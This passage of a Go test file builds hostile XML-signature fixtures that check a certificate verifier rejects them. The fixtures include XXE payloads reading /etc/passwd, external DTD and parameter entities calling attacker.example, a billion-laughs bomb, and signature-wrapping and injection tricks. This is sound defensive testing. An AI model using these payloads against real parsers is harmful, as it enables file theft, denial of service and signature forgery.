	tmpl.CreateAttr("match", "/")
	tmpl.CreateElement("xsl:copy-of").CreateAttr("select", "document('file:///etc/passwd')")
	add("transform-xslt.xml", p.official.reseal(t, valid, seal{}, insertTransform(xslt)))
	add("transform-base64.xml", p.official.reseal(t, valid, seal{}, insertTransform(newDS("Transform", "Algorithm", algBase64))))
	add("transform-enveloped-twice.xml", p.official.reseal(t, valid, seal{}, func(_, sig *etree.Element) {
		transforms(sig).InsertChildAt(1, newDS("Transform", "Algorithm", string(dsig.EnvelopedSignatureAltorithmId)))
	}))
	add("transform-order-reversed.xml", p.official.reseal(t, valid, seal{}, func(_, sig *etree.Element) {
		ts := transforms(sig)
		first := ts.ChildElements()[0]
		ts.RemoveChild(first)
		ts.AddChild(first)
	}))
	setAlg := func(tags ...string) func(alg string) func(_, sig *etree.Element) {
		return func(alg string) func(_, sig *etree.Element) {
			return func(_, sig *etree.Element) { dsPath(sig, tags...).CreateAttr("Algorithm", alg) }
		}
	}
	digestMethod := setAlg(dsig.SignedInfoTag, dsig.ReferenceTag, dsig.DigestMethodTag)
	signatureMethod := setAlg(dsig.SignedInfoTag, dsig.SignatureMethodTag)
	add("digest-sha1.xml", p.official.reseal(t, valid, seal{digest: crypto.SHA1}, digestMethod(algSHA1)))
	add("signature-method-rsa-sha1.xml", p.official.reseal(t, valid, seal{signature: p.official.rsa(crypto.SHA1)}, signatureMethod(dsig.RSASHA1SignatureMethod)))
	add("signature-method-rsa-sha512.xml", p.official.reseal(t, valid, seal{signature: p.official.rsa(crypto.SHA512)}, signatureMethod(dsig.RSASHA512SignatureMethod)))
	add("signature-method-rsa-md5.xml", p.official.reseal(t, valid, seal{signature: p.official.rsa(crypto.MD5)}, signatureMethod(algRSAMD5)))
	add("signature-method-hmac-sha256-public-key.xml", p.official.reseal(t, valid, seal{signature: hmacSig(sha256.New, pubDER, 0)}, signatureMethod(algHMAC256)))
	add("signature-method-hmac-sha1-truncated.xml", p.official.reseal(t, valid, seal{signature: hmacSig(sha1.New, pubDER, 1)}, func(root, sig *etree.Element) {
		signatureMethod(algHMACSHA1)(root, sig)
		dsPath(sig, dsig.SignedInfoTag, dsig.SignatureMethodTag).CreateElement("ds:HMACOutputLength").SetText("8")
	}))
	withComments := string(dsig.CanonicalXML10ExclusiveWithCommentsAlgorithmId)
	add("c14n-exclusive-with-comments-transform.xml", p.official.reseal(t, valid,
		seal{refC14N: dsig.MakeC14N10ExclusiveWithCommentsCanonicalizerWithPrefixList("")},
		func(_, sig *etree.Element) { transforms(sig).ChildElements()[1].CreateAttr("Algorithm", withComments) }))
	add("c14n-exclusive-with-comments-signedinfo.xml", p.official.reseal(t, valid,
		seal{siC14N: dsig.MakeC14N10ExclusiveWithCommentsCanonicalizerWithPrefixList("")},
		setAlg(dsig.SignedInfoTag, dsig.CanonicalizationMethodTag)(withComments)))

	// --- ambiguous structure ---

	// Two SignatureMethods: a verifier reading the first sees RSA-SHA256;
	// goxmldsig's unmarshalling keeps the last, RSA-SHA1, which the
	// signature is made with.
	add("signature-method-duplicated.xml", p.official.reseal(t, valid, seal{signature: p.official.rsa(crypto.SHA1)}, func(_, sig *etree.Element) {
		si := ds(sig, dsig.SignedInfoTag)
		si.InsertChildAt(ds(si, dsig.SignatureMethodTag).Index()+1, newDS("SignatureMethod", "Algorithm", dsig.RSASHA1SignatureMethod))
	}))
	// Two Algorithm attributes in different namespaces: document order
	// shows RSA-SHA256 first, canonical (sorted) order puts RSA-SHA1 last.
	add("algorithm-attribute-namespaced.xml", p.official.reseal(t, valid, seal{signature: p.official.rsa(crypto.SHA1)}, func(_, sig *etree.Element) {
		sm := dsPath(sig, dsig.SignedInfoTag, dsig.SignatureMethodTag)
		sm.Attr = nil
		sm.CreateAttr("xmlns:a", "urn:a")
		sm.CreateAttr("xmlns:b", "urn:b")
		sm.CreateAttr("a:Algorithm", dsig.RSASHA256SignatureMethod)
		sm.CreateAttr("b:Algorithm", dsig.RSASHA1SignatureMethod)
	}))
	add("reference-uri-namespaced.xml", p.official.reseal(t, validCons, seal{}, func(_, sig *etree.Element) {
		ref := dsPath(sig, dsig.SignedInfoTag, dsig.ReferenceTag)
		ref.CreateAttr("xmlns:a", "urn:a")
		ref.CreateAttr("a:URI", "#consignment")
	}))
	add("transforms-duplicated.xml", p.official.reseal(t, valid, seal{}, func(_, sig *etree.Element) {
		ref := dsPath(sig, dsig.SignedInfoTag, dsig.ReferenceTag)
		second := transforms(sig).Copy()
		second.ChildElements()[1].CreateAttr("Algorithm", withComments)
		ref.InsertChildAt(transforms(sig).Index()+1, second)
	}))
	add("keyinfo-x509data-duplicated.xml", edit(t, valid, func(_, sig *etree.Element) {
		xd := newDS("X509Data")
		xd.CreateElement("ds:X509Certificate").SetText(base64.StdEncoding.EncodeToString(p.foreign.cert.Raw))
		ds(sig, dsig.KeyInfoTag).AddChild(xd)
	}))
	add("signature-value-empty.xml", edit(t, valid, func(_, sig *etree.Element) {
		ds(sig, dsig.SignatureValueTag).SetText("")
	}))
	add("signature-value-missing.xml", edit(t, valid, func(_, sig *etree.Element) {
		sig.RemoveChild(ds(sig, dsig.SignatureValueTag))
	}))

	// --- the signer ---

	add("keyinfo-missing.xml", edit(t, valid, func(_, sig *etree.Element) {
		sig.RemoveChild(ds(sig, dsig.KeyInfoTag))
	}))
	add("keyinfo-cert-from-other-ca.xml", p.foreign.sign(t, base))
	add("keyinfo-forged-ca-chain.xml", p.forged.sign(t, base, p.forgedCA.cert))
	add("signer-key-not-for-signing.xml", p.tls.sign(t, base))
	add("signer-expired.xml", p.expired.sign(t, base))
	add("signer-not-yet-valid.xml", p.notYet.sign(t, base))
	add("signer-not-authorized.xml", p.stranger.sign(t, base))
	// Signed with the foreign key; KeyInfo names the genuine official.
	add("keyinfo-cert-swapped.xml", p.foreign.reseal(t, valid, seal{}, nil))

	// --- tampering ---

	add("content-tampered.xml", evil(valid))
	// The content changed and its digest recomputed: only SignedInfo's
	// signature stands in the way.
	add("digest-tampered.xml", func() []byte {
		doc := hostileParse(t, evil(valid))
		recomputed := hostileParse(t, p.official.reseal(t, evil(valid), seal{}, nil))
		dv := []string{dsig.SignedInfoTag, dsig.ReferenceTag, dsig.DigestValueTag}
		dsPath(ds(doc.Root(), dsig.SignatureTag), dv...).SetText(dsPath(ds(recomputed.Root(), dsig.SignatureTag), dv...).Text())
		return hostileWrite(t, doc)
	}())
	// Another allowed canonicalization of SignedInfo: the policy passes it,
	// the bytes that were signed are not the bytes it now produces.
	add("signedinfo-tampered.xml", edit(t, valid, setAlg(dsig.SignedInfoTag, dsig.CanonicalizationMethodTag)(string(dsig.CanonicalXML11AlgorithmId))))
	add("signature-value-tampered.xml", edit(t, valid, func(_, sig *etree.Element) {
		sv := ds(sig, dsig.SignatureValueTag)
		raw, err := base64.StdEncoding.DecodeString(sv.Text())
		if err != nil {
			t.Fatal(err)
		}
		raw[len(raw)/2] ^= 0x01
		sv.SetText(base64.StdEncoding.EncodeToString(raw))
	}))

	// --- injection inside signed values ---

	const signedValue = ">" + hostileID + "<"
	add("comment-in-signed-value.xml", replaceOnce(valid, signedValue, ">CL-2026-<!--000999-->000123<"))
	add("cdata-in-signed-value.xml", replaceOnce(valid, signedValue, ">CL-2026-<![CDATA[000]]>123<"))
	add("charref-in-signed-value.xml", replaceOnce(valid, signedValue, ">CL-2026-&#48;&#x30;0123<"))
	add("whitespace-in-signed-value.xml", replaceOnce(valid, signedValue, "> CL-2026-000123\n<"))
	add("pi-in-signed-value.xml", replaceOnce(valid, signedValue, ">CL-2026-<?x 999?>000123<"))

	// --- the parser ---

	body := withoutDecl(valid)
	withProlog := func(prolog string) []byte { return append([]byte(xmlDecl+prolog+"\n"), body...) }
	add("doctype.xml", withProlog(`<!DOCTYPE rsm:SPSCertificate>`))
	add("dtd-external.xml", withProlog(`<!DOCTYPE rsm:SPSCertificate SYSTEM "https://attacker.example/sps.dtd">`))
	// A DTD that makes ram:ID an ID-typed attribute, to steer ID lookups.
	add("dtd-attlist-id.xml", withProlog(`<!DOCTYPE rsm:SPSCertificate [<!ATTLIST rsm:SPSConsignment ID ID #IMPLIED>]>`))
	add("entity-internal.xml", append([]byte(xmlDecl+`<!DOCTYPE rsm:SPSCertificate [<!ENTITY id "`+hostileID+`">]>`+"\n"),
		withoutDecl(replaceOnce(valid, signedValue, ">&id;<"))...))
	add("entity-external-system.xml", append([]byte(xmlDecl+`<!DOCTYPE rsm:SPSCertificate [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`+"\n"),
		withoutDecl(replaceOnce(valid, "Frutas del Norte S.A. de C.V.", "&xxe;"))...))
	add("entity-parameter.xml", withProlog(`<!DOCTYPE rsm:SPSCertificate [<!ENTITY % remote SYSTEM "https://attacker.example/evil.dtd"> %remote;]>`))
	var lol strings.Builder
	lol.WriteString(`<!DOCTYPE rsm:SPSCertificate [<!ENTITY lol0 "lol">`)
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&lol, `<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	lol.WriteString(`]>`)
	add("billion-laughs.xml", append([]byte(xmlDecl+lol.String()+"\n"), withoutDecl(replaceOnce(valid, signedValue, ">&lol9;<"))...))
	// Size attacks are genuinely signed: only the limits reject them.
	deep := strings.Repeat("<ram:Note>", 80) + "x" + strings.Repeat("</ram:Note>", 80)
	add("too-deep.xml", p.official.sign(t, replaceOnce(base, "</rsm:SPSConsignment>", deep+"</rsm:SPSConsignment>")))
	// (Wrapped, so that exclusive C14N declares ram once, not per element.)
	many := "<ram:Notes>" + strings.Repeat("<ram:N/>", hostileLimits.MaxElements) + "</ram:Notes>"
	add("too-many-elements.xml", p.official.sign(t, replaceOnce(base, "</rsm:SPSConsignment>", many+"</rsm:SPSConsignment>")))
	attachment := "<ram:ReferenceSPSReferencedDocument><ram:AttachmentBinaryObject mimeCode=\"application/pdf\">" +
		strings.Repeat("JVBERi0xLjQK", int(hostileLimits.MaxBytes)/12+1) + "</ram:AttachmentBinaryObject></ram:ReferenceSPSReferencedDocument>"
	add("too-large.xml", p.official.sign(t, replaceOnce(base, "</rsm:SPSExchangedDocument>", attachment+"</rsm:SPSExchangedDocument>")))
	add("malformed-xml.xml", valid[:bytes.LastIndex(valid, []byte("</rsm:SPSCertificate>"))])

	return out
}

// A partner whose policy accepts SHA-1 gets its RSA-SHA1 and SHA-1 digest
// documents verified; the HMAC variant and everything else stays refused.
func TestVerify_SHA1WhenThePartnerPolicyAllows(t *testing.T) {
	pki := loadHostilePKI(t)
	v := pki.verifier()
	v.AllowSHA1 = true
	for _, tt := range []struct {
		file string
		want error
	}{
		{"digest-sha1.xml", nil},
		{"signature-method-rsa-sha1.xml", nil},
		{"signature-method-hmac-sha1-truncated.xml", ErrAlgorithm},
	} {
		t.Run(tt.file, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join(hostileDir, tt.file))
			if err != nil {
				t.Fatal(err)
			}
			got, err := v.Verify(context.Background(), data)
			if tt.want == nil {
				if err != nil {
					t.Fatalf("rejected with SHA-1 allowed: %v", err)
				}
				checkVerified(t, got, pki)
				return
			}
			if !errors.Is(err, tt.want) {
				t.Fatalf("err = %v, want %v", err, tt.want)
			}
		})
	}
}
